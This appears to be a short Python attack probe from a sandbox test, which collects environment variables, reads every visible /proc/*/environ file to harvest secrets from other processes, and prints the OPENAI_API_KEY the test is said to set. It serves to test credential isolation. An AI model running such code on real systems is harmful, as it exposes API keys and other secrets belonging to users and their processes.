# Attack: read the parent's environment (the test sets OPENAI_API_KEY) through
# our own environment and every /proc/*/environ we can see.
import glob, os
found = [k + "=" + v for k, v in os.environ.items()]
for path in glob.glob("/proc/*/environ"):
    try:
        with open(path, "rb") as f:
            found.append(f.read().decode("latin-1"))
    except OSError as e:
        print("blocked", path, e.strerror)
print("\n".join(found))
print(os.environ["OPENAI_API_KEY"])
